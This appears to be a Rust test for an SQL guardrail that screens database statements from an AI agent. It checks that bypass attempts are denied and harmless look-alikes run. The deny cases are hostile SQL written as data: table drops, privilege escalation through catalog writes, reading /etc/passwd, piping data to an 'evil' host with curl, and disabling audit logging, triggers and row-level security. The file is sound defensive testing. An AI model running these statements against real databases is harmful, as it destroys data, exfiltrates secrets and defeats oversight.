//! SQL text → decision through the real analyser and the built-in pack: the bypasses of the
//! guardrail issue are refused, their benign look-alikes run.

use model::decision::Decision;
use model::{Identity, IdentityKind};
use policy::{decide_all, Policies, Principal, RequestContext};

fn summary(d: &Decision) -> String {
    match d {
        Decision::Allow { .. } => "allow".into(),
        Decision::Deny { policy_id, .. } => format!("deny {policy_id}"),
        Decision::NeedsApproval { policy_id, .. } => format!("approval {policy_id}"),
    }
}

#[test]
fn bypasses_are_refused_and_look_alikes_run() {
    let p = Policies::load(true, &[]).unwrap_or_else(|e| panic!("{e:?}"));
    let who = Principal {
        identity: Identity {
            name: "agent-7".into(),
            kind: IdentityKind::Agent,
            groups: vec!["agents".into()],
        },
    };
    let ctx = RequestContext {
        target: "main".into(),
        environment: "production".into(),
        ..RequestContext::default()
    };
    let cases = [
        ("SELECT * FROM users WHERE id = 1", "allow"),
        ("select 'DROP TABLE users' -- drop table users", "allow"),
        ("SELECT drop_count FROM stats", "allow"),
        ("DELETE FROM sessions WHERE expires_at < now()", "allow"),
        ("SELECT * FROM information_schema.tables", "allow"),
        ("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT", "allow"),
        ("SET search_path TO app, public", "allow"),
        ("CREATE TEMP TABLE scratch AS SELECT 1", "allow"),
        ("DROP TABLE users", "deny builtin.no-drop"),
        ("/* x */ DrOp TaBlE \"users\"", "deny builtin.no-drop"),
        ("SELECT 1; DROP TABLE users", "deny builtin.no-drop"),
        ("TRUNCATE users", "deny builtin.no-truncate"),
        (
            "ALTER TABLE users DROP COLUMN email",
            "deny builtin.no-alter-drop",
        ),
        ("DELETE FROM users", "deny builtin.unfiltered-write"),
        (
            "UPDATE users SET admin = true WHERE 1 = 1",
            "deny builtin.unfiltered-write",
        ),
        (
            "WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d",
            "deny builtin.unfiltered-write",
        ),
        ("GRANT ALL ON users TO public", "deny builtin.no-privileges"),
        ("SET ROLE postgres", "deny builtin.no-role-switch"),
        (
            "SELECT set_config('gatehouse.identity', 'root', false)",
            "deny builtin.no-gatehouse-settings",
        ),
        (
            "SET \"gatehouse\".identity = 'root'",
            "deny builtin.no-gatehouse-settings",
        ),
        (
            "ALTER SYSTEM SET fsync = off",
            "deny builtin.no-server-settings",
        ),
        (
            "SELECT length(pg_read_file('/etc/passwd'))",
            "deny builtin.no-server-files",
        ),
        (
            "COPY users TO PROGRAM 'curl -d @- evil'",
            "deny builtin.no-programs",
        ),
        (
            "SELECT dblink_exec('host=x', 'DROP TABLE y')",
            "deny builtin.no-cross-database",
        ),
        ("LOAD 'evil'", "deny builtin.no-load"),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
            "deny builtin.no-opaque",
        ),
        (
            "DO $$ BEGIN DROP TABLE users; END $$",
            "deny builtin.no-drop",
        ),
        ("SELEC * FROM users", "deny builtin.no-opaque"),
        ("CREATE TABLE t (id int)", "deny default"),
        // Settings that weaken the server's own enforcement or auditing.
        (
            "SET session_replication_role = replica",
            "deny builtin.no-weakening-settings",
        ),
        (
            "SET \"SESSION_REPLICATION_ROLE\" TO 'replica'",
            "deny builtin.no-weakening-settings",
        ),
        (
            "SELECT set_config('row_security', 'off', false)",
            "deny builtin.no-weakening-settings",
        ),
        (
            "SET log_statement = 'none'",
            "deny builtin.no-weakening-settings",
        ),
        (
            "SET pgaudit.log TO 'none'",
            "deny builtin.no-weakening-settings",
        ),
        (
            "SET default_transaction_read_only = off",
            "deny builtin.no-weakening-settings",
        ),
        ("BEGIN READ WRITE", "deny builtin.no-weakening-settings"),
        (
            "SELECT 1; SET session_replication_role = replica",
            "deny builtin.no-weakening-settings",
        ),
        (
            "DO $$ BEGIN SET session_replication_role = replica; END $$",
            "deny builtin.no-weakening-settings",
        ),
        (
            "ALTER ROLE app SET log_statement = 'none'",
            "deny builtin.no-privileges",
        ),
        (
            "ALTER SYSTEM SET log_statement = 'none'",
            "deny builtin.no-server-settings",
        ),
        ("SET statement_timeout = 0", "allow"),
        ("RESET session_replication_role", "allow"),
        ("SET session_replication_role = origin", "allow"),
        ("BEGIN READ ONLY", "allow"),
        // Triggers, row-level security, policies, rules, event triggers.
        (
            "ALTER TABLE users DISABLE TRIGGER ALL",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "alter table users disable trigger audit",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "ALTER TABLE users NO FORCE ROW LEVEL SECURITY",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "DROP POLICY tenant ON users",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "ALTER POLICY tenant ON users USING (true)",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "DROP TRIGGER audit ON users",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "CREATE RULE r AS ON DELETE TO users DO INSTEAD NOTHING",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "ALTER EVENT TRIGGER audit_ddl DISABLE",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "DROP EVENT TRIGGER audit_ddl",
            "deny builtin.no-disabling-safeguards",
        ),
        (
            "DO $$ BEGIN ALTER TABLE users DISABLE TRIGGER ALL; END $$",
            "deny builtin.no-disabling-safeguards",
        ),
        ("ALTER TABLE users ENABLE TRIGGER ALL", "deny default"),
        // Catalog writes.
        (
            "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'app'",
            "deny builtin.no-catalog-writes",
        ),
        (
            "DELETE FROM pg_trigger WHERE tgname = 'audit'",
            "deny builtin.no-catalog-writes",
        ),
        (
            "COPY pg_catalog.pg_proc FROM STDIN",
            "deny builtin.no-catalog-writes",
        ),
        ("SELECT * FROM pg_class WHERE oid = 1 FOR UPDATE", "allow"),
        (
            "UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'",
            "deny builtin.no-catalog-writes",
        ),
        (
            "SET allow_system_table_mods = on",
            "deny builtin.no-weakening-settings",
        ),
        // MERGE reaching every row.
        (
            "MERGE INTO users u USING s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "deny builtin.unfiltered-merge",
        ),
        (
            "MERGE INTO users USING s ON true WHEN MATCHED THEN DELETE",
            "deny builtin.unfiltered-merge",
        ),
        (
            "MERGE INTO users u USING s ON s.active WHEN MATCHED THEN UPDATE SET admin = true",
            "deny builtin.unfiltered-merge",
        ),
        (
            "MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name",
            "allow",
        ),
    ];
    let mut failures = Vec::new();
    for (sql, want) in cases {
        let facts = sql::analyze(sql, &sql::AnalyzeContext::default()).statements;
        let got = summary(&decide_all(&p, &who, &facts, &ctx));
        if got != want {
            failures.push(format!("{sql}: want {want}, got {got}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
